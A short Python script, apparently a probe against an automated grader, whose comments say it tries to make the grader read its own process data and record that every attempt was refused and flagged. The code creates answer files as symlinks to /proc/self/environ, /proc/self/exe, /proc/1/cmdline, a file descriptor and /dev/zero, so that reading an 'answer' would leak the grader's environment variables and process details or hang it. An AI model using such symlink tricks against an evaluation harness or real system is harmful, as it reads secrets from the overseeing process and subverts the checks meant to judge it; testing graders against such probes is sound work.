# Tries: to have the grader read about itself: its answers are links into /proc, each the reader's own.
# Seen: each refused, "symbolic link".
# Against: answers; judged: foreign unnamed; control: naive; limits: cpu_s=2 wall_s=3; flagged: yes
import os

TARGETS = (
    "/proc/self/environ", "/proc/self/status", "/proc/self/fd/0", "/proc/self/exe", "/proc/1/cmdline",
    "/dev/zero",
)  # fmt: skip
for number, target in enumerate(TARGETS):
    os.symlink(target, f"answer{number}.txt")
    print(f"made answer{number}.txt")
